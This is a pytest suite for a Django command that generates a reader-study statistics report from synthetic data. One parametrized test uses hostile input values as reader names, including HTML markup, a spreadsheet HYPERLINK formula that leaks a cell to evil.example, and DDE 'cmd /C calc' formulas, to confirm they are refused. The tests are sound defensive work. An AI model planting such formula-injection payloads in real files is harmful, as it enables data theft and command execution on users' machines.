"""``manage.py reader_report``: every file, exact CSV headers, the OR cross-check, the inputs hash,
a self-contained escaped HTML page, the PDF's pages, bad input writing nothing, --margin and
reproducibility by seed; the binary ROC-band rule agreeing across the CSV, report.json, the tables
and the forest plot; borderline verdicts, the named point estimate and the deviations listed.

The study is :func:`readerstudy.analysis.readers.synthetic_study` (paper-sized: 100 cases, 10 readers). A reader or
training name that the site would refuse (``<b>r&1</b>``, ``=HYPERLINK(...)``) is refused with its file,
row and column; the HTML escaping is exercised by such a name put into already-validated responses.
"""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import html
import json
import re
import zlib
from collections.abc import Sequence
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from django.core.management import CommandError, call_command

from readerstudy.analysis import readers
from readerstudy.analysis.aided import AIDED_COUNTS, aided_rows
from readerstudy.report.reader_report import FIGURES, REPORT_FILES, build_report, forest_rows, pdf_sections
from readerstudy.report.reader_tables import html_page, summary_text
from tests.ml_core.helpers import band_study

HOSTILE = "<b>r&1</b>"
ITERATIONS = "200"
AIDED_CONTRACT = (  # report.json's aided rows: the names scripts read
    "observer",
    "group",
    "cases",
    "switched_to_model_right",
    "switched_to_model_wrong",
    "kept_own_right",
    "kept_own_wrong",
    "other",
    "accuracy_before",
    "accuracy_after",
)
CONDITION_WORDS = {
    "model_quality": "on model-quality images",
    "full_quality": "on full-quality images",
    "model_aided": "when they read with the model's help",
}
DIFFERENCE_HEADER = "task,a,condition_a,b,condition_b,estimate,boot_mean,ci_low,ci_high,margin,verdict"


def _write_csv(path: Path, rows: Sequence[dict[str, Any]], columns: Sequence[str]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(columns), extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    return path


def _study(tmp_path: Path) -> tuple[Path, Path]:
    responses, predictions = readers.synthetic_study(seed=3)
    return (
        _write_csv(tmp_path / "responses.csv", responses, readers.RESPONSE_COLUMNS),
        _write_csv(tmp_path / "predictions.csv", predictions, readers.PREDICTION_COLUMNS),
    )


def _run(responses: Path, predictions: Path, out: Path, *extra: str) -> str:
    stdout = StringIO()
    call_command(
        "reader_report",
        "--responses",
        str(responses),
        "--predictions",
        str(predictions),
        "--out",
        str(out),
        "--iterations",
        ITERATIONS,
        *extra,
        stdout=stdout,
    )
    return stdout.getvalue()


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path, str]:
    """One run shared by the read-only checks (the report takes a few seconds to draw)."""
    base = tmp_path_factory.mktemp("reader_report")
    responses, predictions = _study(base)
    out = base / "out"
    return responses, predictions, out, _run(responses, predictions, out)


def test_every_file_is_written(made: tuple[Path, Path, Path, str]) -> None:
    _, _, out, stdout = made
    assert sorted(p.name for p in out.iterdir()) == sorted(REPORT_FILES)
    for stem in FIGURES:
        assert (out / f"{stem}.png").read_bytes().startswith(b"\x89PNG")
        assert b"<svg" in (out / f"{stem}.svg").read_bytes()
    for name in REPORT_FILES:
        assert str(out / name) in stdout
    assert "100 cases" in stdout and "margin" in stdout
    assert stdout.count("model − ") == 12  # 2 tasks × 3 conditions × 2 groups, each with its verdict


def test_csv_headers_are_exact(made: tuple[Path, Path, Path, str]) -> None:
    _, _, out, _ = made
    diffs = (out / "kappa_differences.csv").read_text(encoding="utf-8").splitlines()
    assert diffs[0] == DIFFERENCE_HEADER
    assert len(diffs) == 1 + 28  # 14 comparisons per task
    observers = (out / "observers.csv").read_text(encoding="utf-8").splitlines()
    assert observers[0] == ",".join(readers.OBSERVER_COLUMNS)


def test_json_has_or_cross_check_and_inputs_hash(made: tuple[Path, Path, Path, str]) -> None:
    responses, predictions, out, _ = made
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    expected = hashlib.sha256(responses.read_bytes() + predictions.read_bytes()).hexdigest()
    assert report["inputs_sha256"] == expected
    rows = report["or_check"]
    assert {(r["task"], r["condition"], r["readers"]) for r in rows} == {
        (t, c, g) for t in readers.TASKS for c in readers.CONDITIONS for g in ("all", "expert", "resident")
    }
    for row in rows:
        assert row["n_readers"] == (10 if row["readers"] == "all" else 5)
        assert row["difference"] == pytest.approx(row["model_kappa"] - row["readers_kappa"])
        assert row["ci_low"] < row["difference"] < row["ci_high"]
        assert 0.0 <= row["p_value"] <= 1.0
    # The OR point estimates are the observers table's κ: the model's, and each group's mean.
    kappa = {(r["observer"], r["condition"], r["task"]): r["kappa"] for r in report["observers"]}
    for row in rows:
        assert row["model_kappa"] == pytest.approx(kappa[("model", "all", row["task"])])
        if row["readers"] != "all":
            assert row["readers_kappa"] == pytest.approx(kappa[(row["readers"], row["condition"], row["task"])])
    assert report["figures"]["roc_model"]["band"] is not None


def test_html_is_self_contained_and_escaped(made: tuple[Path, Path, Path, str]) -> None:
    _, _, out, _ = made
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "http://" not in page and "https://" not in page
    assert 'src="http' not in page and "<link" not in page.lower() and "<script" not in page.lower()
    for reader in ["e0", "e1", "e2", "e3", "e4", "r0", "r1", "r2", "r3", "r4"]:
        assert f"<td>{reader}</td>" in page
    for heading in ("Table 3", "Table 4", "Table 5", "Noninferiority margin", "Obuchowski–Rockette"):
        assert heading in page
    images = page.count("data:image/png;base64,") + page.count("<svg")
    assert images == len(FIGURES)


def test_json_has_the_aided_rows_of_the_two_files(made: tuple[Path, Path, Path, str]) -> None:
    responses, predictions, out, _ = made
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    expected = aided_rows(
        responses=readers.read_responses(responses), predictions=readers.read_predictions(predictions)
    )
    assert report["aided"] == expected
    assert [r["observer"] for r in report["aided"]] == [
        *(f"e{i}" for i in range(5)),
        *(f"r{i}" for i in range(5)),
        "expert",
        "resident",
    ]
    for row in report["aided"]:
        assert set(AIDED_CONTRACT) <= set(row)
        assert row["cases"] == sum(row[k] for k in AIDED_COUNTS) > 0
        assert row["median_seconds_before"] is None  # no seconds column in these files


def _opening(page: str) -> str:
    """The text between the title and the first table's heading."""
    return page.split("</h1>", 1)[1].split("<h2>", 1)[0]


def test_html_opens_with_the_summary_and_has_the_aided_table(made: tuple[Path, Path, Path, str]) -> None:
    _, _, out, _ = made
    page = (out / "report.html").read_text(encoding="utf-8")
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    opening = _opening(page)
    assert opening.count('<p class="summary" id="summary">') == 1
    paragraph = html.unescape(opening.split('id="summary">', 1)[1].split("</p>", 1)[0])
    assert paragraph == summary_text(report)
    for task in ("Fracture or not:", "Six classes:"):
        assert task in paragraph
    for row in report["comparisons"]:
        if row["a"] == "model" and row["b"] in readers.GROUPS:
            verdict = {"not_noninferior": "not shown noninferior"}.get(row["verdict"], row["verdict"])
            assert f"{verdict}{' †' if row['borderline'] else ''} {CONDITION_WORDS[row['condition_b']]}" in paragraph
    assert "the experts" in paragraph and "the residents" in paragraph
    table = page.split("Aided reading", 1)[1].split("</table>", 1)[0]
    assert "switched to model, right" in table and "kept own, wrong" in table
    expert = next(r for r in report["aided"] if r["observer"] == "expert")
    assert f"<td>expert</td><td>expert</td><td>all</td><td>{expert['cases']}</td>" in table


def test_external_files_with_times_get_the_median_times(tmp_path: Path) -> None:
    rows, predictions = readers.synthetic_study(seed=3)
    for i, row in enumerate(rows):
        row["seconds"] = str(10 + i % 7)
    responses = _write_csv(tmp_path / "responses.csv", rows, [*readers.RESPONSE_COLUMNS, "seconds"])
    preds = _write_csv(tmp_path / "predictions.csv", predictions, readers.PREDICTION_COLUMNS)
    out = tmp_path / "out"
    _run(responses, preds, out, "--iterations", "20")
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    for row in report["aided"]:
        assert 10 <= row["median_seconds_before"] <= 16 and 10 <= row["median_seconds_after"] <= 16
    page = (out / "report.html").read_text(encoding="utf-8")
    assert '<p class="summary" id="summary">' in _opening(page)


def test_markup_in_a_name_is_escaped_in_the_html(tmp_path: Path) -> None:
    # read_responses refuses such a name (below); the page escapes every text all the same.
    responses, predictions = _study(tmp_path)
    valid = readers.read_responses(responses)
    hostile = dataclasses.replace(
        valid, reader=np.array([HOSTILE if r == "r1" else r for r in valid.reader], dtype=object)
    )
    page = html_page(build_report(hostile, predictions, iterations=20), [])
    assert HOSTILE not in page
    assert "&lt;b&gt;r&amp;1&lt;/b&gt;" in page


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("reader", HOSTILE),
        ("reader", '=HYPERLINK("http://evil.example/?leak="&A1,"r1")'),
        ("reader", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("reader", "model"),  # the model's own row in observers.csv
        ("training", "=cmd|' /C calc'!A0"),
        ("training", "-2+3"),
        ("training", "Orthopedics Attending"),
    ],
)
def test_a_name_the_site_refuses_is_refused_with_file_row_column(tmp_path: Path, column: str, value: str) -> None:
    responses, predictions = _study(tmp_path)
    rows = list(csv.DictReader(responses.read_text(encoding="utf-8").splitlines()))
    first = rows[0]["reader"]
    for row in rows:  # every row of one reader, so no other check (one training per reader) fires first
        if row["reader"] == first:
            row[column] = value
    _write_csv(responses, rows, readers.RESPONSE_COLUMNS)
    out = tmp_path / "out"
    with pytest.raises(CommandError) as error:
        _run(responses, predictions, out)
    message = str(error.value)
    assert str(responses) in message and "row 2" in message and repr(column) in message, message
    assert repr(value) in message
    _assert_nothing_written(out)


def test_site_trainings_and_reader_codes_are_accepted() -> None:
    from readerstudy.models import TRAININGS, training_validator

    for training in TRAININGS:
        training_validator(training)  # the site's rule and reader_report's are one
        assert re.fullmatch(readers.TRAINING_PATTERN, training)
    for code in ("R01", "R99", "R100", "e0", "a.b-c_1"):
        assert re.fullmatch(readers.READER_PATTERN, code)


def test_pdf_has_the_planned_pages(made: tuple[Path, Path, Path, str]) -> None:
    _, _, out, _ = made
    data = (out / "report.pdf").read_bytes()
    assert data.startswith(b"%PDF")
    pages = len(re.findall(rb"/Type /Page\b", data))
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    # Summary 1, then tables: inputs 1, Table 3 1, Table 4 1, Table 5 1, aided 1, borderline 1, margin 1,
    # 48 margin pairs 2, OR 1, deviations 1, 74 observers 3.
    assert [n for _, n in pdf_sections(report)] == [1, 1, 1, 1, 1, 1, 1, 1, 2, 1, 1, 3]
    assert pages == 15 + len(FIGURES)
    text = _pdf_text(out / "report.pdf")
    assert "Summary" in text and "Aided reading" in text


def _assert_nothing_written(out: Path) -> None:
    assert not out.exists() or not any(out.iterdir())
    assert not [p for p in out.parent.iterdir() if p.name.startswith(f".{out.name}.")]  # no temporary folder


def test_missing_column_names_file_row_column(tmp_path: Path) -> None:
    responses, predictions = _study(tmp_path)
    lines = predictions.read_text(encoding="utf-8").splitlines()
    rows = list(csv.DictReader(lines))
    columns = [c for c in readers.PREDICTION_COLUMNS if c != "patient"]
    _write_csv(predictions, rows, columns)
    out = tmp_path / "out"
    with pytest.raises(CommandError) as error:
        _run(responses, predictions, out)
    message = str(error.value)
    assert str(predictions) in message and "row 1" in message and "'patient'" in message
    _assert_nothing_written(out)


def test_unknown_class_key_names_file_row_column(tmp_path: Path) -> None:
    responses, predictions = _study(tmp_path)
    rows = list(csv.DictReader(responses.read_text(encoding="utf-8").splitlines()))
    rows[5]["answer"] = "banana"  # header = row 1, so the sixth data row is row 7
    _write_csv(responses, rows, readers.RESPONSE_COLUMNS)
    out = tmp_path / "out"
    out.mkdir()  # an existing empty folder stays empty
    with pytest.raises(CommandError) as error:
        _run(responses, predictions, out)
    message = str(error.value)
    assert str(responses) in message and "row 7" in message and "'answer'" in message and "banana" in message
    _assert_nothing_written(out)


def test_margin_option_and_same_seed_same_bytes(tmp_path: Path) -> None:
    responses, predictions = _study(tmp_path)
    first, second = tmp_path / "a", tmp_path / "b"
    _run(responses, predictions, first, "--margin", "0.2", "--seed", "7")
    _run(responses, predictions, second, "--margin", "0.2", "--seed", "7")
    with open(first / "kappa_differences.csv", newline="", encoding="utf-8") as fh:
        margins = {row["margin"] for row in csv.DictReader(fh)}
    assert margins == {"0.2"}
    report = json.loads((first / "report.json").read_text(encoding="utf-8"))
    assert report["margin"]["source"] == "argument" and report["seed"] == 7
    assert (first / "kappa_differences.csv").read_bytes() == (second / "kappa_differences.csv").read_bytes()


def test_existing_folder_keeps_other_files(tmp_path: Path) -> None:
    responses, predictions = _study(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine", encoding="utf-8")
    (out / "report.json").write_text("stale", encoding="utf-8")
    _run(responses, predictions, out)
    assert (out / "notes.txt").read_text(encoding="utf-8") == "mine"
    assert json.loads((out / "report.json").read_text(encoding="utf-8"))["n_cases"] == 100
    assert sorted(p.name for p in out.iterdir()) == sorted([*REPORT_FILES, "notes.txt"])


def test_crash_while_rendering_leaves_out_dir_untouched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A failure after some files were rendered: no file reaches --out and the temporary folder is gone."""
    from readerstudy.report import reader_report

    responses, predictions = _study(tmp_path)
    original = reader_report._pdf

    def broken(*args: Any, **kwargs: Any) -> bytes:
        original(*args, **kwargs)
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(reader_report, "_pdf", broken)
    out = tmp_path / "out"
    with pytest.raises(RuntimeError, match="disk on fire"):
        _run(responses, predictions, out)
    _assert_nothing_written(out)


# ----------------------------------------------------------------- verdicts, borderline, estimate, deviations


class _Tables(HTMLParser):
    """The HTML report's tables by their heading: {h2 text: [row of cell texts]} (header row first),
    and every note paragraph's text."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self.notes: list[str] = []
        self._heading: str | None = None
        self._in: str | None = None
        self._text = ""
        self._row: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("h2", "td", "th") or (tag == "p" and ("class", "note") in attrs):
            self._in, self._text = tag, ""
        elif tag == "tr":
            self._row = []

    def handle_data(self, data: str) -> None:
        if self._in:
            self._text += data

    def handle_endtag(self, tag: str) -> None:
        if tag == self._in == "h2":
            self._heading = self._text
            self.tables[self._text] = []
        elif tag == self._in == "p":
            self.notes.append(self._text)
        elif tag == self._in and tag in ("td", "th"):
            self._row.append(self._text)
        elif tag == "tr" and self._heading is not None:
            self.tables[self._heading].append(self._row)
        if tag == self._in:
            self._in = None


def _tables(out: Path) -> _Tables:
    parser = _Tables()
    parser.feed((out / "report.html").read_text(encoding="utf-8"))
    return parser


def _table(parser: _Tables, prefix: str) -> list[dict[str, str]]:
    title = next(t for t in parser.tables if t.startswith(prefix))
    header, *rows = parser.tables[title]
    return [dict(zip(header, row, strict=True)) for row in rows]


def _pdf_text(path: Path) -> str:
    """The text drawn on the PDF's pages: matplotlib writes each line as a TJ array of kerned
    pieces, or as one Tj string."""
    lines = []
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", path.read_bytes(), re.S):
        try:
            content = zlib.decompress(stream)
        except zlib.error:  # an image or a font, not a page
            continue
        for array in re.findall(rb"\[(.*?)\]\s*TJ|(\((?:\\.|[^\\)])*\))\s*Tj", content, re.S):
            text = b"".join(re.findall(rb"\(((?:\\.|[^\\)])*)\)", b"".join(array)))
            lines.append(re.sub(rb"\\(.)", rb"\1", text).decode("latin-1"))  # \( is (, \\ is \
    return "\n".join(lines)


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture(scope="module")
def band(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    """The data set of the ROC-band rule (tests.ml_core.test_readers.band_study) as two CSV files."""
    base = tmp_path_factory.mktemp("band")
    responses, predictions = band_study()
    return (
        _write_csv(base / "responses.csv", responses, readers.RESPONSE_COLUMNS),
        _write_csv(base / "predictions.csv", predictions, readers.PREDICTION_COLUMNS),
        base,
    )


def test_binary_band_rule_agrees_in_csv_json_tables_and_forest_plot(band: tuple[Path, Path, Path]) -> None:
    from readerstudy.report.reader_report import _forest_figure

    responses, predictions, base = band
    out = base / "default"
    _run(responses, predictions, out)
    csv_rows = _csv_rows(out / "kappa_differences.csv")
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    verdicts = [r["verdict"] for r in csv_rows]
    assert [c["verdict"] for c in report["comparisons"]] == verdicts
    binary = {(r["b"], r["condition_b"]): r for r in csv_rows if r["task"] == "binary" and r["a"] == "model"}
    checks = {(r["group"], r["condition"]): r for r in report["roc_check"]}
    for condition in readers.CONDITIONS:
        # CI above 0 for both groups; the experts' point is not below the band, the residents' is.
        assert (
            float(binary[("expert", condition)]["ci_low"]) > 0 and float(binary[("resident", condition)]["ci_low"]) > 0
        )
        assert binary[("expert", condition)]["verdict"] == "noninferior"
        assert binary[("resident", condition)]["verdict"] == "superior"
        assert checks[("expert", condition)]["below_band"] is False
        assert checks[("expert", condition)]["kappa_verdict"] == "superior"
        assert checks[("expert", condition)]["verdict"] == "noninferior"

    tables = _tables(out)
    table4 = _table(tables, "Table 4")
    table5 = _table(tables, "Table 5")
    model_rows = [r for r in csv_rows if r["a"] == "model"]
    other_rows = [r for r in csv_rows if r["a"] != "model"]
    assert [r["verdict"] for r in table4] == [r["verdict"] for r in model_rows]
    assert [r["verdict"] for r in table5] == [r["verdict"] for r in other_rows]
    experts = [r for r in table4 if r["task"] == "binary" and r["b"] == "expert"]
    assert [(r["verdict"], r["group below band"], r["verdict from κ CI alone"]) for r in experts] == [
        ("noninferior", "no", "superior")
    ] * 3

    # The forest plot draws the CSV's verdicts, one per row, in the CSV's order.
    assert [r["verdict"] for r in forest_rows(report)] == verdicts
    figure = _forest_figure(report)
    drawn = [t.get_text().removesuffix(" †") for t in figure.axes[0].texts]
    assert drawn == verdicts


def test_borderline_estimate_and_deviations_in_the_report(band: tuple[Path, Path, Path]) -> None:
    responses, predictions, base = band
    # A margin that puts the CI lower bound of the comparison lowest below 0 0.005 above −margin.
    analysed = build_report(responses, predictions, iterations=int(ITERATIONS), seed=5)
    target = min(range(len(analysed["comparisons"])), key=lambda i: analysed["comparisons"][i]["ci_low"])
    assert analysed["comparisons"][target]["ci_low"] < -0.02
    margin = round(-analysed["comparisons"][target]["ci_low"] + 0.005, 6)
    out = base / "borderline"
    stdout = _run(responses, predictions, out, "--seed", "5", "--margin", str(margin), "--estimate", "all-cases")
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    csv_rows = _csv_rows(out / "kappa_differences.csv")

    # Borderline: flagged in report.json (not in the CSV), marked in the tables and explained.
    assert tuple(csv_rows[0]) == readers.DIFFERENCE_COLUMNS
    assert "-margin" in report["comparisons"][target]["borderline"]
    flagged = [i for i, c in enumerate(report["comparisons"]) if c["borderline"]]
    assert target in flagged
    assert (report["borderline"]["seed"], report["borderline"]["iterations"]) == (5, int(ITERATIONS))
    tables = _tables(out)
    rows = _table(tables, "Table 4") + _table(tables, "Table 5")
    order = [i for i, c in enumerate(report["comparisons"]) if c["a"] == "model"] + [
        i for i, c in enumerate(report["comparisons"]) if c["a"] != "model"
    ]
    assert [i for i, row in zip(order, rows, strict=True) if row["†"] == "†"] == sorted(flagged, key=order.index)
    listed = _table(tables, "Borderline verdicts")
    assert len(listed) == len(flagged) and "−margin" in [r["near"] for r in listed]
    note = f"may flip with another bootstrap seed (this report: seed 5, {ITERATIONS} iterations)"
    assert any(note in n for n in tables.notes)
    assert "borderline" in stdout
    pdf = _pdf_text(out / "report.pdf")
    assert "Borderline verdicts" in pdf and "borderline: the CI's lower bound lies within 0.01" in pdf

    # The estimate shown is named and is the all-case one; the CSV keeps both figures.
    assert report["estimate"] == "all-cases"
    model_rows = [r for r in csv_rows if r["a"] == "model"]
    table4 = _table(tables, "Table 4")
    assert "κ difference (all cases)" in table4[0]
    assert [r["κ difference (all cases)"] for r in table4] == [f"{float(r['estimate']):.3f}" for r in model_rows]
    assert any("the statistic on all cases" in n for n in tables.notes)
    assert [r["point"] for r in forest_rows(report)] == [c["estimate"] for c in report["comparisons"]]

    # The deviations that apply: the given margin and the all-case estimate among them; no model config.
    keys = {d["key"] for d in report["deviations"]}
    assert {"margin-given", "estimate-all-cases", "bootstrap-iterations", "roc-band-rule"} <= keys
    assert report["model_config"] is None
    deviations = _table(tables, "Deviations from the paper")
    assert {r["key"] for r in deviations} == keys
    assert any("the model's configuration is unknown" in n for n in tables.notes)
    # (matplotlib draws "ff" and "fi" as ligatures, outside the text strings: test words without them)
    assert "(all cases)" in pdf and "the statistic on all cases" in pdf and "Deviations from the paper" in pdf
    assert all(key in pdf for key in keys)

    # Same seed, the paper's estimate: the CSV is byte for byte the same, the tables show the mean.
    paper = base / "paper"
    _run(responses, predictions, paper, "--seed", "5", "--margin", str(margin))
    assert (paper / "kappa_differences.csv").read_bytes() == (out / "kappa_differences.csv").read_bytes()
    again = json.loads((paper / "report.json").read_text(encoding="utf-8"))
    assert again["estimate"] == "bootstrap-mean" and "estimate-all-cases" not in {d["key"] for d in again["deviations"]}
    table4 = _table(_tables(paper), "Table 4")
    assert [r["κ difference (bootstrap mean)"] for r in table4] == [f"{float(r['boot_mean']):.3f}" for r in model_rows]


def test_the_paper_estimate_is_the_default(made: tuple[Path, Path, Path, str]) -> None:
    _, _, out, _ = made
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    assert report["estimate"] == "bootstrap-mean"
    table3 = _table(_tables(out), "Table 3")
    model = next(r for r in report["observers"] if r["observer"] == "model" and r["task"] == "binary")
    assert table3[0]["κ (bootstrap mean)"] == f"{model['kappa_boot_mean']:.3f}"
    assert {"margin-given", "estimate-all-cases"}.isdisjoint(d["key"] for d in report["deviations"])


def test_bad_estimate_is_refused(tmp_path: Path) -> None:
    responses, predictions = _study(tmp_path)
    with pytest.raises(CommandError, match="estimate"):
        _run(responses, predictions, tmp_path / "out", "--estimate", "median")
    _assert_nothing_written(tmp_path / "out")
